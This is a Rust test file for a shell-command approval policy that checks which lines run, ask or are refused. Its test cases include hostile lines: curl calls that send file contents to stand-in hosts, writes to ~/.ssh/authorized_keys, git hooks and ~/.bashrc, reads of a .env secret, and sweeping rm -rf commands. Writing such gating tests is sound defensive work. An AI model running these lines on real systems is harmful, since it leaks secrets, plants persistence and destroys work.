//! `approval.project`, `approval.sensitive` and `lines.send`: which lines are asked about, by what they change, print and send.

use std::fs;
use std::path::Path;
use std::process::Command;

use crate::support::{climax, run};

/// What becomes of a line where nobody can be asked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Decision {
    Runs,
    Asks,
    /// It is not read.
    Refused,
}

/// A repository `project` with tracked, ignored and secret files, and a file `outside` beside it.
fn project() -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("outside"), "outside\n").unwrap();
    let path = &directory.path().join("project");
    for (name, text) in [("a", "a\n"), ("b", "b\n"), ("src/s", "s\n"), ("build/o", "o\n"), (".gitignore", "build\n")] {
        let file = path.join(name);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, text).unwrap();
    }
    fs::write(path.join(".env"), "TOKEN=1\n").unwrap();
    git(path, &["init", "-q"]);
    git(path, &["add", "a", "b", "src", ".gitignore"]);
    directory
}

fn git(directory: &Path, args: &[&str]) {
    #[expect(clippy::disallowed_methods, reason = "the test makes a repository")]
    let status = Command::new("git").current_dir(directory).args(args).status().unwrap();
    assert!(status.success(), "git {args:?}");
}

/// Runs each line in a project of its own, under a policy that asks and a client that cannot be asked.
fn check(policy: &str, lines: &[(&str, Decision)]) {
    for (line, expected) in lines {
        let project = project();
        let file = tempfile::NamedTempFile::new().unwrap();
        fs::write(file.path(), policy).unwrap();
        let mut command = climax();
        command
            .current_dir(project.path().join("project"))
            .args(["sh", "--policy"])
            .arg(file.path())
            .args(["-c", line]);
        let (status, stdout, stderr) = run(&mut command);
        let found = match status {
            126 => Decision::Asks,
            2 if stderr.contains("Command line not read") => Decision::Refused,
            _ => Decision::Runs,
        };
        assert_eq!(found, *expected, "{line}: {status} {stdout}{stderr}");
    }
}

const PROJECT: &str = "default: enabled\napproval: {global: destructive, project: write, sensitive: allow}\n";

#[test]
fn single_files_of_the_project_are_changed_without_a_question() {
    let lines = ["cp a b", "mv a b", "rm a", "echo x > a", "sed -i s/a/b/ a", "tee b < a", "mkdir -p x/y && rmdir x/y"];
    check(PROJECT, &lines.map(|line| (line, Decision::Runs)));
    let directories = [
        ("cp -r src b2", Decision::Runs),
        ("mkdir -p d && cp -r src d/", Decision::Runs),
        ("cp -r build src", Decision::Runs),
        ("cp -r src/. .", Decision::Asks),
        ("cp -rT build src", Decision::Asks),
        ("chmod -R +x src", Decision::Runs),
        ("chmod -R +x .", Decision::Asks),
        ("echo x | tee /dev/stderr", Decision::Runs),
        ("dd if=a of=new bs=1 count=1", Decision::Runs),
        ("cp a .. && rm ../a", Decision::Runs),
        ("cp ../outside .", Decision::Runs),
        ("mv a ../outside", Decision::Asks),
        ("cp a /opt", Decision::Asks),
        ("dd if=a of=/dev/climax-test", Decision::Asks),
    ];
    check(PROJECT, &directories);
    // Which files they are is known only when the line runs.
    let values = [
        ("for f in a b; do rm \"$f\"; done", Decision::Runs),
        ("F=$(mktemp); echo x > \"$F\"; rm \"$F\"", Decision::Runs),
        ("D=$(mktemp -d); echo x > \"$D/y\"; rm -rf \"$D\"", Decision::Runs),
        ("mkdir -p /tmp/climax-test/x; rm -r /tmp/climax-test", Decision::Runs),
        ("f=../outside; rm \"$f\"", Decision::Asks),
        ("for f in a b; do echo x > \"$f\"; done", Decision::Runs),
        ("f=.git/config; echo x > \"$f\"", Decision::Asks),
        ("f=~/.bashrc; echo x >> \"$f\"", Decision::Asks),
        ("D=$(mktemp -d); rmdir \"$D\"; rm -rf \"$D\" \"$PWD/../outside\"", Decision::Asks),
        ("for f in a src; do rm -r \"$f\"; done", Decision::Asks),
    ];
    check(PROJECT, &values);
    let without = "default: enabled\napproval: {global: destructive, sensitive: allow}\n";
    check(without, &[("rm a", Decision::Asks), ("echo x > a", Decision::Asks), ("mkdir x", Decision::Runs)]);
}

#[test]
fn archives_are_unpacked_over_files_only_after_a_question() {
    let packed = |then: &str| format!("tar -czf t.tgz a && {then}");
    let lines = [
        ("D=$(mktemp -d); tar -xzf t.tgz -C \"$D\" && cat \"$D/a\"", Decision::Runs),
        ("mkdir new && tar -xf t.tgz -C new && cat new/a", Decision::Runs),
        ("mkdir new && cd new && tar xzf ../t.tgz && cat a", Decision::Runs),
        ("tar -xf t.tgz --one-top-level=new && cat new/a", Decision::Runs),
        ("cat t.tgz | tar xz -C src", Decision::Asks),
        ("tar -xf t.tgz", Decision::Asks),
        ("mkdir new && tar -xPf t.tgz -C new", Decision::Asks),
        ("mkdir new && tar -xf t.tgz -C new -C ..", Decision::Asks),
        ("tar -xf t.tgz -C /opt/climax-test", Decision::Asks),
        ("D=$(mktemp -d); ln -s \"$PWD/src\" \"$D/a\"; tar -xf t.tgz -C \"$D\"", Decision::Asks),
        ("mkdir .vscode && tar -xf t.tgz -C .vscode", Decision::Asks),
    ];
    for (line, expected) in lines {
        check(PROJECT, &[(&packed(line), expected)]);
    }
}

#[test]
fn directories_are_removed_without_a_question_only_if_git_ignores_all_of_them() {
    check(
        PROJECT,
        &[
            ("rm -rf build", Decision::Runs),
            ("rm -rf ./src/../build", Decision::Runs),
            ("rm -rf src", Decision::Asks),
            ("rm -rf build src", Decision::Asks),
            ("rm -rf build/../src", Decision::Asks),
            ("rm -rf .", Decision::Asks),
            ("rm -rf *", Decision::Asks),
            ("git add -f build/o && rm -rf build", Decision::Asks),
            ("mkdir build/.git && rm -rf build", Decision::Asks),
        ],
    );
}

#[test]
fn what_other_programs_load_and_files_elsewhere_are_asked_about() {
    let lines = [
        "cp a .git/hooks/pre-commit",
        "cp a .envrc",
        "touch .vscode/tasks.json",
        "mkdir -p .claude && cp a .claude/settings.json",
        "touch ~/.bashrc",
        "cp .gitignore ~/.ssh/authorized_keys",
        "ln -s /etc/hosts .envrc",
        "cp a /etc/climax-test",
        "mv /etc/hosts a",
        "rm ../outside",
        "git checkout -- a",
    ];
    check(PROJECT, &lines.map(|line| (line, Decision::Asks)));
}

#[test]
fn branches_are_checked_out_without_a_question_and_files_only_where_nothing_is_lost() {
    let commit = "git -c user.name=x -c user.email=x@y commit -qm x";
    let after = |line: &str| format!("{commit} && git branch topic && {line}");
    let runs = ["git checkout topic", "git checkout topic && git checkout -q -"].map(after);
    let asks = [
        "git checkout a",
        "rm b; git checkout b",
        "git checkout src",
        "git checkout .",
        "git checkout '*'",
        "git checkout :/",
        "git -C src checkout s",
        "git checkout topic a",
        "git checkout topic -- a",
        "git checkout -f topic",
        "git checkout -B topic",
        "f=a; git checkout \"$f\"",
        "git restore a",
    ]
    .map(after);
    check(PROJECT, &runs.each_ref().map(|line| (line.as_str(), Decision::Runs)));
    check(PROJECT, &asks.each_ref().map(|line| (line.as_str(), Decision::Asks)));
    let elsewhere = ["--work-tree=..", "--git-dir=.git"].map(|option| after(&format!("git {option} checkout outside")));
    check(PROJECT, &elsewhere.each_ref().map(|line| (line.as_str(), Decision::Refused)));
}

#[test]
fn what_prints_secrets_is_asked_about_by_name_and_by_config() {
    let policy = "default: enabled\napproval: {global: destructive}\n";
    check(
        policy,
        &[
            ("cat .env", Decision::Asks),
            ("grep TOKEN .env", Decision::Asks),
            ("cat < .env", Decision::Asks),
            ("git show HEAD:.env", Decision::Asks),
            ("f=.env; cat \"$f\"", Decision::Asks),
            ("ls -la .env", Decision::Runs),
            ("cat .env.example", Decision::Runs),
            ("cat a", Decision::Runs),
        ],
    );
    let open = "default: enabled\napproval: {global: none}\n";
    check(open, &[("cat .env", Decision::Runs)]);
    let deny = "default: enabled\napproval: {global: none, sensitive: deny}\n";
    check(deny, &[("cat .env", Decision::Asks), ("cat a", Decision::Runs)]);
}

#[test]
fn data_is_sent_without_a_question_to_named_hosts_alone() {
    let policy = "default: enabled\napproval: {global: destructive}\nlines: {send: [127.0.0.2, '*.invalid']}\n";
    check(
        policy,
        &[
            ("curl -s -m 1 \"http://127.0.0.1:9/?$(cat a)\"", Decision::Runs),
            ("curl -s -m 1 \"http://x.invalid/?$(cat a)\"", Decision::Runs),
            ("curl -s -m 1 \"http://y.example/?$(cat a)\"", Decision::Asks),
            ("curl -s -m 1 \"http://x.invalid@y.example/?$(cat a)\"", Decision::Asks),
            ("curl -s -m 1 \"http://$(cat a).invalid/\" http://y.example/", Decision::Asks),
            ("curl -s -m 1 -x http://y.example:1 \"http://x.invalid/?$(cat a)\"", Decision::Asks),
        ],
    );
}

/// The lines of a day at a desk: what is read, changed and run there every day needs no question, and what loses work or
/// sends files away does.
#[test]
#[cfg_attr(not(native_linux), ignore = "only Linux has cages")]
fn everyday_lines_run_and_dangerous_ones_are_asked_about() {
    use Decision::{Asks, Refused, Runs};

    let policy = "default: enabled\napproval: {global: destructive, project: write}\nlines: {unknown: read}\n";
    check(
        policy,
        &[
            ("git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser\n\nIt dropped a word.\nEOF\n)\"", Runs),
            ("git status && git diff && git diff --stat && git log --oneline -5", Runs),
            ("cd src && git status", Runs),
            ("git checkout -b topic", Runs),
            ("git checkout -- a", Asks),
            ("git reset --hard", Asks),
            ("git push --force", Asks),
            ("git push origin \"$(git branch --show-current)\"", Runs),
            ("cargo test 2>&1 | tail", Runs),
            ("npm test", Runs),
            ("pytest -q", Runs),
            ("PYTHONPATH=src pytest -q", Runs),
            ("CGO_ENABLED=0 go test ./...", Runs),
            ("python3 - <<'PY'\nprint(open('a').read())\nPY", Runs),
            ("cat > new.py <<'EOF'\nprint(1)\nEOF\npython3 new.py", Runs),
            ("cat > a <<'EOF'\nnew\nEOF", Runs),
            ("sed -i s/a/b/ a && mv a c && cp c b", Runs),
            ("rg foo | head", Runs),
            ("grep -rn a . | head", Runs),
            ("cat .env", Asks),
            ("gh pr create --title t --body \"$(cat a)\"", Runs),
            ("kubectl get pods | grep x", Runs),
            ("curl \"https://x.example/?$(cat a)\"", Asks),
            ("rm -rf build", Runs),
            ("rm -rf src", Asks),
            ("rm -rf $PREFIX/lib", Refused),
            ("for f in *; do wc -l \"$f\"; done | sort -n | tail -3", Runs),
            ("diff <(sort a) <(sort b)", Runs),
            ("ps aux | grep node", Runs),
        ],
    );
    let script = std::env::temp_dir().join(format!("climax-everyday-{}.py", std::process::id()));
    let line = format!("cat > {0} <<'EOF'\nprint(1)\nEOF\npython3 {0}", script.display());
    check(policy, &[(&line, Runs)]);
    fs::remove_file(script).unwrap();
}
